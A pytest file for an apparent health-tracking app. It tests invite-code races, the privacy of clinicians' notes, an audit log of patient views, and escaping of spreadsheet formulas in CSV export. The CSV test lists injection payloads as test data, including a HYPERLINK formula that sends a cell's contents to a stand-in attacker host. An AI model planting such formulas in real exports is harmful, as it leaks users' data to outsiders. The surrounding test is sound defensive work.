"""Sharing under attack: an invite code redeemed by two clinicians at once (on SQLite and
PostgreSQL), clinicians' notes that stay private to their author unless shared with the
patient, and CSV cells that a spreadsheet would run as formulas."""

from __future__ import annotations

import csv
import io
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from backends import BACKENDS
from servers import (
    fast_hashes,  # noqa: F401 - an autouse fixture
    make_user,
    server_app,
    token_client,
)

from myomap.accounts.sharing import Sharing
from myomap.accounts.users import Accounts
from myomap.db import Store
from myomap.db.testing import Backend, temporary_database
from myomap.errors import EvidenceError

EVIDENCE = {"pain": [{"region": "sacrum", "intensity": 5}]}


@pytest.fixture(params=BACKENDS)
def store(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Store]:
    backend: Backend = request.param
    with temporary_database(backend, tmp_path) as url:
        opened = Store.open(url)
        yield opened
        opened.close()


def test_an_invite_is_redeemed_once_under_a_race(store: Store) -> None:
    person = make_user(store, "ana@example.org")
    clinicians = [make_user(store, f"dr{n}@example.org", role="clinician") for n in range(4)]
    sharing = Sharing(store)
    for _ in range(15):
        _, code = sharing.invite(person.id)
        start = threading.Barrier(len(clinicians))
        won: list[int] = []

        def redeem(
            clinician_id: int,
            code: str = code,
            start: threading.Barrier = start,
            won: list[int] = won,
        ) -> None:
            start.wait()
            try:
                sharing.accept(clinician_id, code)
                won.append(clinician_id)
            except EvidenceError:
                pass

        threads = [threading.Thread(target=redeem, args=(c.id,)) for c in clinicians]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        assert len(won) == 1, won
    active = [s for s in sharing.shares_of(person.id) if s.status == "active"]
    assert len(active) == 15


def test_notes_are_private_to_their_author_unless_shared(tmp_path: Path) -> None:
    with server_app(tmp_path, assess_limit=0) as (app, store):
        person = make_user(store, "ana@example.org")
        lee = make_user(store, "dr.lee@example.org", role="clinician")
        kim = make_user(store, "dr.kim@example.org", role="clinician")
        sharing = Sharing(store)
        shares = {}
        for clinician in (lee, kim):
            share, code = sharing.invite(person.id)
            sharing.accept(clinician.id, code)
            shares[clinician.id] = share.id
        ana = token_client(app, store, "ana@example.org")
        visit = ana.post("/api/v1/assessments", json={"evidence": EVIDENCE}).json()["id"]
        lee_api = token_client(app, store, "dr.lee@example.org")
        kim_api = token_client(app, store, "dr.kim@example.org")
        url = f"/api/v1/clinic/patients/{person.id}/assessments/{visit}/notes"
        private = lee_api.post(url, json={"text": "Query a referral; not for the patient yet."})
        shared = lee_api.post(url, json={"text": "Stretch twice a day.", "shared": True})
        assert private.status_code == shared.status_code == 201
        assert kim_api.post(url, json={"text": "Kim's own note."}).status_code == 201

        def seen_by(client: object) -> list[str]:
            visits = client.get(  # type: ignore[attr-defined]
                f"/api/v1/clinic/patients/{person.id}/assessments"
            ).json()
            return [n["text"] for v in visits for n in v["notes"]]

        assert seen_by(lee_api) == [
            "Query a referral; not for the patient yet.",
            "Stretch twice a day.",
        ]
        assert seen_by(kim_api) == ["Kim's own note."]
        page = kim_api.get(f"/clinic/patients/{person.id}")
        assert "Query a referral" not in page.text and "Stretch twice" not in page.text
        # Revoking Lee keeps Lee's notes away from Kim too.
        ana.delete(f"/api/v1/shares/{shares[lee.id]}")
        assert seen_by(kim_api) == ["Kim's own note."]
        exported = ana.get("/api/v1/account/export").json()
        texts = [n["text"] for n in exported["clinician_notes_on_my_assessments"]]
        assert texts == ["Stretch twice a day."]
        lee_export = Accounts(store).export(lee.id)
        assert len(lee_export["notes_i_wrote"]) == 2


def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    with server_app(tmp_path) as (app, store):
        make_user(store, "ana@example.org")
        ana = token_client(app, store, "ana@example.org")
        attacks = ['=HYPERLINK("https://evil.example/?"&A1, "click")', "+1+1", "-2+3", "@SUM(A1)"]
        for text in attacks:
            made = ana.post("/api/v1/diary", json={"overall": 2, "note": text, "triggers": [text]})
            assert made.status_code == 201
        body = ana.get("/downloads/diary.csv").text
        rows = list(csv.DictReader(io.StringIO(body)))
        assert sorted(r["note"] for r in rows) == sorted("'" + t for t in attacks)
        for row in rows:
            for value in row.values():
                assert not value.startswith(("=", "+", "-", "@")), value


def test_a_patient_sees_which_clinician_looked_at_their_data(tmp_path: Path) -> None:
    with server_app(tmp_path) as (app, store):
        person = make_user(store, "ana@example.org")
        make_user(store, "dr.lee@example.org", role="clinician")
        make_user(store, "dr.kim@example.org", role="clinician")
        sharing = Sharing(store)
        _, code = sharing.invite(person.id)
        sharing.accept(Accounts(store).by_email("dr.lee@example.org").id, code)
        lee = token_client(app, store, "dr.lee@example.org")
        kim = token_client(app, store, "dr.kim@example.org")
        assert lee.get(f"/api/v1/clinic/patients/{person.id}/assessments").status_code == 200
        assert lee.get(f"/clinic/patients/{person.id}").status_code == 200
        assert kim.get(f"/clinic/patients/{person.id}").status_code == 404
        ana = token_client(app, store, "ana@example.org")
        log = ana.get("/api/v1/account/export").json()["audit_log"]
        views = [e["detail"] for e in log if e["action"] == "patient_view"]
        assert views == ["dr.lee@example.org", "dr.lee@example.org"]
